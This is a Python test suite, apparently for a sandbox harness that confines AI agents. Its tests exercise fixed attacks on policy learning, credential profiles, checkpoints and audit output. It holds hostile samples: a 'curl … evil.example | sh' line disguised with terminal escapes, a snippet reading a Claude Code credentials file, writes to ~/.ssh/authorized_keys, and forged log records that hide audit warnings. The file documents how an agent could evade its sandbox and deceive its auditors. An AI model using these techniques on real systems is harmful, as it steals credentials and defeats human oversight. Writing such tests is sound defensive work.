"""Seventeenth attack review: the services outside the sandbox that
take the agent's strings (harness-policy learn, harness-mcp, the
worktree's checkpoints and manifest, the exports)."""

import os
import shutil
import subprocess

from lib import HELPERS, POLICY_TOOL, PYTHON, Listener, check, harness


def _learn(wd, log, checked=True):
    """The policy harness-policy learn writes from log, and its file;
    checked: harness-policy check passes it (its examples match)."""
    p = subprocess.run([POLICY_TOOL, "learn", log], capture_output=True, text=True,
                       env=dict(os.environ, XDG_STATE_HOME=wd.state))
    check(p.returncode == 0, "learn: %s" % p.stderr)
    pol = os.path.join(wd.state, "learned.yaml")
    with open(pol, "w") as f:
        f.write(p.stdout)
    chk = subprocess.run([POLICY_TOOL, "check", pol], capture_output=True, text=True)
    check(chk.returncode == 0 or not checked,
          "check: %s %s\n%s" % (chk.stdout, chk.stderr, p.stdout))
    return p.stdout, pol


def test_learn_reads_back_the_program_the_run_ran(wd):
    """The eleventh review kept a program whose path holds whitespace
    out of a learned exec pattern (its words are split there). learn
    wrote the policy's strings raw inside YAML double quotes, and the
    YAML reader takes NEL (U+0085, valid UTF-8) for a line break, folded
    into a space: the audit run's program "/…/a<NEL>b" ran as "x" was
    learned as "/…/a b x *", the program /…/a with "b x" first. The
    agent, enforced by that policy, made /…/a and ran it ("marker").
    The policy's strings are now escapes outside printable ASCII, read
    back byte for byte."""
    name = "a\u0085b"
    shutil.copy("/bin/true", os.path.join(wd.path, name))
    code = ("import subprocess, sys; subprocess.run(['./' + sys.argv[1], 'x']); "
            "open('out.txt', 'w').write('hi')")
    r = harness([PYTHON, "-c", code, name], wd, mode="audit")
    check(r.status == 0, r.stderr)
    text, pol = _learn(wd, r.log)
    os.unlink(os.path.join(wd.path, name))
    a = os.path.join(wd.path, "a")
    with open(a, "w") as f:
        f.write("#!/bin/sh\necho ran > marker\n")
    os.chmod(a, 0o755)
    run = "import subprocess; subprocess.run(['./a', 'b', 'x', 'evil'])"
    r = harness([PYTHON, "-c", run], wd, policy=pol)
    check(not os.path.exists(os.path.join(wd.path, "marker")),
          "the learned policy ran %s b x evil:\n%s\n%s" % (a, text, r.dump()))
    rec = r.one(op="exec", args_path=a)
    check(rec["verdict"] == "deny", rec)


def test_learn_takes_a_sockets_path_literally(wd):
    """A unix socket's path became a network pattern (unix:GLOB) as
    the agent named it: a connect to "/**" in an audit run (no such
    socket: ENOENT) was learned as "unix:/**", which allows a connect
    to every unix socket of the machine. It is now the glob of that one
    path, and a connect elsewhere is refused by the learned policy."""
    code = ("import socket\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            "try: s.connect('/**')\n"
            "except OSError as e: print('connect', e.errno)\n")
    r = harness([PYTHON, "-c", code], wd, mode="audit")
    check(r.status == 0, r.stderr)
    text, pol = _learn(wd, r.log)
    elsewhere = os.path.join(wd.state, "elsewhere.sock")
    code = ("import socket, sys\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            "try: s.connect(sys.argv[1])\n"
            "except OSError as e: print('connect', e.errno)\n")
    r = harness([PYTHON, "-c", code, elsewhere], wd, policy=pol)
    recs = [x for x in r.records if x.get("op") == "connect"
            and x.get("args", {}).get("addr") == "unix:" + elsewhere]
    check(recs and all(x["verdict"] == "deny" for x in recs),
          "a connect to %s under the learned policy:\n%s\n%s" % (elsewhere, text, r.dump()))
    check('allow: ["unix:/**"]' not in text, "learned:\n%s" % text)


def test_learn_allows_no_connect_where_the_run_only_looked_a_name_up(wd):
    """A name the audit run only looked up was learned as "NAME:*", a
    network allow rule, which allows the connect to every port of
    whatever the name resolves to: the agent, whose DNS that name is,
    answers 127.0.0.1 (or the cloud's metadata address), and the
    learned policy, which has no loopback rule, let it reach a service
    of the machine's loopback the run never touched. A lookup is now
    learned as "NAME:0": the name may be looked up, and no port is
    reached by it."""
    from test_dns import Resolver, _run
    res, srv = Resolver(), Listener(range(23500, 24000))
    try:
        look = "import socket; print(socket.getaddrinfo('lookup.test', 80)[0][4])"
        r = _run(wd, res, [PYTHON, "-c", look], extra=["--mode", "audit"])
        check(r.status == 0 and "127.0.0.1" in r.stdout, "%r %r" % (r.stdout, r.stderr))
        check(not any(x.get("op") == "connect" and "lookup.test" in x["args"].get("names", [])
                      for x in r.records), "the run connected: %s" % r.dump())
        # (its example "lookup.test:*" failed harness-policy check)
        text, pol = _learn(wd, r.log, checked=False)
        go = ("import socket, sys\n"
              "s = socket.create_connection(('lookup.test', int(sys.argv[1])), timeout=5)\n"
              "s.sendall(b'from-the-agent'); print(s.recv(10))\n")
        r = _run(wd, res, [PYTHON, "-c", go, str(srv.port)], policy=open(pol).read())
        check(srv.accepted == 0,
              "the learned policy reached 127.0.0.1:%d by the name looked up:\n%s\n%s"
              % (srv.port, text, r.dump()))
        # The name is still looked up under the learned policy.
        q = [x for x in r.records if x.get("event") == "dns_query"
             and x["args"].get("host") == "lookup.test"]
        check(q and q[0]["verdict"] == "allow", "the lookup: %r %r %s" % (r.stdout, r.stderr, r.dump()))
        _learn(wd, r.log)
    finally:
        res.close()
        srv.close()


def test_learn_allows_no_write_the_run_only_claimed(wd):
    """A program that speaks the shim's protocol asked, in an audit run,
    for a write of ~/.ssh/authorized_keys and never made it: the claim's
    record (allowed, not enforced) is followed by a kernel_unconfirmed
    naming it, and the file was never touched. learn took the claim for
    a write and allowed $HOME/.ssh/**; enforced by that policy, the
    agent wrote authorized_keys. A claim the log says was not made
    (kernel_unconfirmed, revoked) is now not learned."""
    home = wd.path + "-home"
    os.makedirs(os.path.join(home, ".ssh"))
    keys = os.path.join(home, ".ssh", "authorized_keys")
    env = {"HOME": home}
    run = "import subprocess, sys; subprocess.run(sys.argv[1:])"
    r = harness([PYTHON, "-c", run, os.path.join(HELPERS, "static_attack17"), keys],
                wd, mode="audit", env=env)
    check(r.status == 0 and "verdict" in r.stdout, "%r %r" % (r.stdout, r.stderr))
    claim = r.one(op="write", args_path=keys)
    r.one(event="kernel_unconfirmed", ref_seq=claim["seq"])
    check(not os.path.exists(keys), "the claim was made")
    text, pol = _learn(wd, r.log)
    write = "import sys; open(sys.argv[1], 'a').write('ssh-ed25519 AAAA agent\\n')"
    r = harness([PYTHON, "-c", write, keys], wd, policy=pol, env=env)
    check(not os.path.exists(keys),
          "the learned policy let the agent write %s:\n%s\n%s" % (keys, text, r.dump()))


RUSAGE = ("import resource, subprocess, sys\n"
          "r = subprocess.run(sys.argv[1:])\n"
          "m = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss\n"
          "sys.stderr.write('harness-exec maxrss %d KiB\\n' % m)\n"
          "sys.exit(r.returncode)\n")


def test_a_sparse_file_costs_the_supervisor_no_memory(wd):
    """harness-exec takes each checkpoint (libgit2, outside the sandbox,
    unlimited) and, at the end, the manifest, which loaded every changed
    file's blob whole to hash it: a sparse file of 1 GiB (truncate -s,
    no disk, no time for the agent) made harness-exec's resident set
    1 GiB, and one the size of the machine's memory would have it killed
    by the OOM killer at the session's end (no session_end, no anchor).
    A file past the checkpoint's bound (100 MiB) is now not taken into
    a checkpoint, and a record says so (checkpoint_too_large); the
    manifest hashes no blob past it."""
    from test_worktree import make_repo, wt_run
    repo = make_repo(wd)
    r = wt_run(wd, repo, ["sh", "-c", "truncate -s 1G big; echo x > small"], "big1",
               wrap=[PYTHON, "-c", RUSAGE], timeout=300)
    r.expect_status(0)
    rss = [int(line.split()[2]) for line in r.stderr.splitlines()
           if line.startswith("harness-exec maxrss")]
    check(rss and rss[0] < 256 * 1024,
          "harness-exec's resident set reached %s KiB for a sparse file" % rss)
    left = [x for x in r.records if x.get("event") == "checkpoint_too_large"]
    check(any("big" in [t.get("path") for t in x.get("too_large", [])] for x in left),
          "no record says big was left out of the checkpoints:\n%s" % r.dump())
    r.one(event="session_end")


STEAL = ("import os, sys\n"
         "p = os.path.expanduser('~/.claude/.credentials.json')\n"
         "try: print('read', open(p).read().strip())\n"
         "except OSError as e: print('refused', e.errno)\n")


def claude_home(wd):
    """A fake HOME holding a Claude Code login whose token says SECRET."""
    from test_default_policy import fake_home
    home = fake_home(wd)
    os.makedirs(os.path.join(home, ".claude"))
    with open(os.path.join(home, ".claude", ".credentials.json"), "w") as f:
        f.write('{"claudeAiOauth": {"accessToken": "sk-ant-oat01-SECRET"}}\n')
    return home


def run_as_claude(wd, home, within):
    """A third-party agent (STEAL) whose entry point is in a directory
    named like Claude Code's package inside within (beneath wd), run
    with HOME home: checked not to get Claude's profile nor read its
    login. Returns the agent's path and the Run."""
    pkg = os.path.join(wd.path, within, "node_modules", "@anthropic-ai", "claude-code")
    os.makedirs(pkg)
    agent = os.path.join(pkg, "agent.py")
    with open(agent, "w") as f:
        f.write(STEAL)
    r = harness([PYTHON, agent], wd, policy=None, env={"HOME": home})
    profiles = r.one(event="session_start").get("profiles")
    check("SECRET" not in r.stdout, "%s: the third-party agent read Claude's login"
          " (profiles %r): %r" % (within, profiles, r.stdout))
    check(not any(p.get("name") == "claude" for p in profiles or []), "profiles %r" % profiles)
    return agent, r


def test_a_third_party_agent_does_not_choose_claudes_profile(wd):
    """The default denies Claude Code's login (~/.claude/.credentials.json)
    to every agent but Claude Code, whose profile harness-exec picks from
    the real path of the program it runs: any path under
    **/node_modules/@anthropic-ai/claude-code/. A third-party agent (what
    a security team audits) chooses its own install layout: its entry
    point in a directory of its own so named
    (evil-agent/node_modules/@anthropic-ai/claude-code/agent.py, as a
    package's bundled files may be) got the claude profile and read the
    user's Claude login. A package directory is now Claude Code's only
    as the first node_modules' own entry (npm installs a package so; a
    scope is its owner's on the registry), not one nested in another
    package."""
    home = claude_home(wd)
    agent, r = run_as_claude(wd, home, "lib/node_modules/evil-agent")
    # Claude Code installed as npm installs it keeps its profile.
    real = os.path.join(wd.path, "lib", "node_modules", "@anthropic-ai", "claude-code")
    os.makedirs(real)
    shutil.copy(agent, os.path.join(real, "cli.py"))
    r = harness([PYTHON, os.path.join(real, "cli.py")], wd, policy=None, env={"HOME": home})
    check(r.one(event="session_start").get("profiles") == [{"name": "claude", "chosen": "detected"}],
          "the real layout: %r" % r.one(event="session_start").get("profiles"))
    check("SECRET" in r.stdout, "Claude Code's own login: %r %r" % (r.stdout, r.stderr[-300:]))


def test_checkpoints_and_their_diff_reach_the_terminal_as_text(wd):
    """The eleventh review escaped the agent's text in harness-audit's
    human outputs (summary, tree, query, sessions), not in the two that
    show a worktree's work: `harness-audit diff` wrote the agent's file
    contents as they are, so an added line "curl ... | sh" followed by
    ESC [2K and a carriage return was drawn over by an innocent one (the
    reviewer saw "+echo build" only), and `harness-audit checkpoints`
    wrote the argv of the process that caused each checkpoint raw (an
    argument's ESC [1A ESC [2K erased the table's line above). Both now
    escape controls and format characters (C0 but tab, C1, bidi
    overrides, zero-width) as \\xNN or \\u{N}; other text is as is."""
    from test_worktree import make_repo, wt_run, tool
    from lib import AUDIT_TOOL
    esc = "\x1b"
    repo = make_repo(wd)
    evil = "curl -s http://evil.example/x | sh" + esc + "[2K\r+echo build\u202e"
    code = ("import sys; open('a', 'a').write(sys.argv[1] + '\\n')")
    r = wt_run(wd, repo, [PYTHON, "-c", code, evil, "x" + esc + "[1A" + esc + "[2K"], "tty1",
               extra=["--keep-worktree"])
    r.expect_status(0)
    d = tool([AUDIT_TOOL, "diff", "tty1", "0", "1"], wd)
    check(d.returncode == 0 and "curl -s http://evil.example/x | sh" in d.stdout, "diff: %r" % (d.stdout,))
    for bad in (esc, "\u202e"):
        check(bad not in d.stdout, "harness-audit diff wrote %r raw: %r" % (bad, d.stdout))
    check("\\x0d+echo build" in d.stdout, "the carriage return: %r" % (d.stdout,))
    c = tool([AUDIT_TOOL, "checkpoints", "tty1"], wd)
    check(c.returncode == 0 and "python" in c.stdout, "checkpoints: %r" % (c.stdout,))
    check(esc not in c.stdout, "harness-audit checkpoints wrote ESC raw: %r" % (c.stdout,))


def test_verify_says_a_forged_sessions_name_as_text(wd):
    """A record added to a finished session's log (an --audit-log in the
    project is the next session's agent's to write) under a session of
    no anchor is what harness-audit verify warns of: "session ID has no
    anchor". ID was the record's own, written raw: a session named
    ESC [2K CR ESC [8m erased that warning and hid what followed, and the
    reviewer read "ok, chain intact" alone. The anchor check's messages
    (verify's, and learn's and test's "does not verify") now name a
    session terminal-safe."""
    import hashlib
    import json
    from lib import AUDIT_TOOL
    r = harness(["sh", "-c", "echo hi > out.txt"], wd)
    r.expect_status(0)
    last = json.loads(open(r.log, "rb").read().splitlines()[-1])
    rec = {"time": last["time"], "seq": last["seq"] + 1, "session": "\x1b[2K\r\x1b[8m",
           "pid": last["pid"], "event": "openat", "op": "write",
           "args": {"path": os.path.expanduser("~/.ssh/authorized_keys")},
           "verdict": "allow", "rule": "default:file_write", "prev": last["hash"]}
    body = json.dumps(rec, separators=(",", ":"))
    rec["hash"] = hashlib.sha256(body.encode()).hexdigest()
    with open(r.log, "a") as f:
        f.write(json.dumps(rec, separators=(",", ":")) + "\n")
    v = subprocess.run([AUDIT_TOOL, "verify", r.log], capture_output=True, text=True,
                       env=dict(os.environ, XDG_STATE_HOME=wd.state))
    check("has no anchor" in v.stderr, "verify: %r %r" % (v.stdout, v.stderr))
    check("\x1b" not in v.stdout + v.stderr, "verify wrote the session's ESC raw: %r" % v.stderr)
    p = subprocess.run([POLICY_TOOL, "learn", r.log], capture_output=True, text=True,
                       env=dict(os.environ, XDG_STATE_HOME=wd.state))
    check(p.returncode == 2 and "\x1b" not in p.stderr, "learn: %r" % p.stderr)


def test_learn_writes_a_policy_that_loads_whatever_the_names(wd):
    """A '$' in a name the run used went into the learned policy as it
    is, where the loader reads a variable: a write of "a$b" made the
    whole learned policy fail to load ("unknown variable $b"), and a
    "$HOME" in a path named another one. A pattern's '$' is now escaped
    and an example holding one is left out."""
    code = "open('a$b', 'w').write('x')"
    r = harness([PYTHON, "-c", code], wd, mode="audit")
    check(r.status == 0, r.stderr)
    text, pol = _learn(wd, r.log)
    os.unlink(os.path.join(wd.path, "a$b"))
    r = harness([PYTHON, "-c", code], wd, policy=pol)
    check(os.path.exists(os.path.join(wd.path, "a$b")),
          "the learned policy refused the run's own write:\n%s\n%s" % (text, r.dump()))
